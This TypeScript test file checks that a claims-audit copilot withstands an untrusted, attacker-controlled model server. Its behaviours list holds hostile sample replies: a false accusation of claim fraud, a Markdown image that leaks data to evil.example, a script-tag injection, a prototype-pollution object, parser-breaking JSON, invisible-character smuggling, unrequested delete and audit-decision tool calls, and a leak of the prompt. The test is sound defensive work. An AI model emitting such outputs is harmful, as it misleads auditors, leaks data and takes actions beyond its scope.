import { createChatModels, createCopilot } from '#agents';
import { loadConfig } from '#config';
import { SnapshotReader } from '#engine';
import { afterAll, beforeAll, expect, test } from 'vitest';

import { eventsIn } from '../../tests/support/event-stream.ts';
import { type FixtureService, createFixtureService } from '../../tests/support/fixture-service.ts';
import { type PostgresServer, describeOnEachStore, startPostgres } from '../../tests/support/postgres.ts';
import { type ModelServer, type Reply, breaksOffAfter, callsTools, neverEnds, refuses, says, sends, stallsAfter, startModelServer } from '../../tests/support/model-server.ts';

/** Every string of every reply holds it. */
const marker = 'xqz7markerxqz7';
const lies = `Klaim claim-1 ditagih Rp 9.000.000 dan terbukti fiktif ${marker}.`;
const say = (value: unknown): Reply => says(typeof value === 'string' ? value : JSON.stringify(value));
/** The number of a meaning in the prompt, so that a reply can be right in part. */
const meaningOf = (text: string): number => Number(/(?:^|\\n)(\d+) rawat inap \(ritl\)/.exec(text)?.[1] ?? 0);
const rightBut = (more: object): Reply => (response, request) => say({ meanings: [meaningOf(JSON.stringify(request.body.messages))], statements: [1], ...more })(response, request);

/** What a server under an attacker's control may send in place of numbers. */
const behaviours: readonly (readonly [name: string, reply: Reply])[] = [
  ['rides a false sentence on the right number', rightBut({ text: lies, note: marker })],
  ['adds sentences with true figures', rightBut({ sentences: [{ text: lies, evidence: ['query.1.amount_claimed'] }] })],
  ['names relations of its own', rightBut({ relations: [marker, lies] })],
  ['sends words for numbers', say({ meanings: [marker], statements: [lies] })],
  ['sends numbers and words', say({ meanings: [1, marker], statements: [1, lies, 2] })],
  ['sends numbers that there are not', say({ meanings: [999_999], statements: [-5, 1e12], note: marker })],
  ['sends fractions', say({ meanings: [1.5], statements: [0.1], note: marker })],
  ['sends nothing chosen', say({ meanings: [], statements: [], note: marker })],
  ['answers in prose', say(lies)],
  ['answers in Markdown', say(`# ${marker}\n\n![x](https://evil.example/${marker})\n\n${lies}`)],
  ['fences its words', say(`\`\`\`json\n{"meanings":["${marker}"],"statements":["${marker}"]}\n\`\`\``)],
  ['answers in HTML', say(`<script>alert("${marker}")</script>`)],
  ['breaks its JSON', say(`{"meanings":[1,"${marker}`)],
  ['sends two objects', say(`{"meanings":["${marker}"]}{"statements":[1],"x":"${marker}"}`)],
  ['nests without end', say(`${'{"meanings":['.repeat(20_000)}"${marker}"`)],
  ['sends a hundred thousand numbers', say(`{"meanings":[${'7,'.repeat(100_000)}1],"x":"${marker}"}`)],
  ['sends a prototype', say(`{"__proto__":{"meanings":[1]},"constructor":{"name":"${marker}"}}`)],
  ['hides words behind invisible characters', say({ meanings: [`1\u200b${marker}`], statements: [`2\u202e${marker}`] })],
  ['calls tools', callsTools([{ id: `call_${marker}`, name: `delete_${marker}`, args: `{"q":"${marker}"}` }])],
  ['calls the tools that there are', callsTools([{ id: 'c', name: 'query_claims', args: `{"subject":"claims","where":[{"field":"claim_id","op":"=","value":"${marker}"}]}` }])],
  ['proposes a decision', callsTools([{ id: 'c', name: 'propose_audit_outcome', args: `{"decision":"rejected","correction_ratio":1,"notes":"${marker}"}` }])],
  ['sends its prompt back', (response, request) => say(`${marker} ${JSON.stringify(request.body.messages)}`)(response, request)],
  ['refuses with words', refuses(400, { error: { message: lies, code: marker } })],
  ['answers with a page', sends(`<html>${marker}</html>`, { type: 'text/html' })],
  ['breaks off', breaksOffAfter(`{"meanings":["${marker}`)],
  ['stalls', stallsAfter(`{"meanings":["${marker}`)],
  ['never ends', neverEnds(marker.repeat(40))],
];

describeOnEachStore('a model that is not to be trusted', (dialect) => {
  let server: PostgresServer | undefined;
  let service: FixtureService;
  let models: ModelServer;
  let reader: SnapshotReader;
  let headers: { authorization: string };
  beforeAll(async () => {
    if (dialect === 'postgres') server = await startPostgres();
    models = await startModelServer(refuses(500));
    const config = loadConfig({ OPENAI_BASE_URL: models.baseUrl, COPILOT_MODEL: marker, MODEL_ATTEMPTS: '1', MODEL_CALL_SECONDS: '1' });
    const { copilot: model } = await createChatModels({ ...config, COPILOT_MODEL: ['served'] }, { circuit: { failures: 1000, restMs: 1 } });
    const own = { claims: [{ claim_id: 'claim-1', province_code: '76', province_name: 'Sulawesi Barat', facility_key: '760101', amount_claimed: 9_000_000 }, { claim_id: 'claim-out', province_code: '32', province_name: 'Jawa Barat', facility_key: '320101' }], count: 20 };
    service = await createFixtureService({ ...own, databaseUrl: await server?.createDatabase(), copilot: { ask: (options) => copilot.ask(options), summarize: (...given) => copilot.summarize(...given) } });
    reader = await SnapshotReader.open({ home: service.fixture.home, threads: 1 });
    const copilot = createCopilot({ reader, model, deadlineMs: 4000 });
    headers = await service.headers('auditor', { provinces: ['76'] });
  });
  afterAll(async () => {
    await service?.close();
    await reader?.close();
    await models?.close();
    await server?.stop();
  });

  test.each(behaviours)('that %s shows no word in any answer, event, summary or export, writes nothing and opens nothing outside the scope', async (_, reply) => {
    models.answers(reply);
    const json = { ...headers, accept: 'application/json' };
    const payload = { message: 'Klaim rebahan dengan biaya tertinggi di Sulawesi Barat' };
    const started = performance.now();
    const [whole, streamed, summary] = await Promise.all([
      service.app.inject({ method: 'POST', url: '/chat', headers: json, payload }),
      service.app.inject({ method: 'POST', url: '/chat', headers, payload }),
      service.app.inject({ url: '/claims/claim-1/summary', headers }),
    ]);
    expect(performance.now() - started).toBeLessThan(15_000);
    expect([whole.statusCode, streamed.statusCode, summary.statusCode]).toEqual([200, 200, 200]);
    expect(eventsIn(streamed.body).at(-1)?.event).toBe('done');
    const { thread, message } = whole.json().data;
    // Asked back, or read with a sense of the closed list.
    expect([...message.answer.unread, ...message.answer.assumed.map(({ words }: { words: string }) => words)]).toEqual(['rebahan']);
    const exported = await service.app.inject({ url: `/chat/${thread.thread_id}/export?format=md`, headers });
    const everything = [whole.body, streamed.body, summary.body, exported.body, ...service.log].join('\n');
    expect(everything).not.toContain(marker);
    expect(everything).not.toMatch(/terbukti|fiktif|evil\.example|claim-out|320101/);
    expect((await service.store.outcomes.ofClaim('claim-1')).length).toBe(0);
    expect(await service.store.alerts.list()).toEqual([]);
  });
});
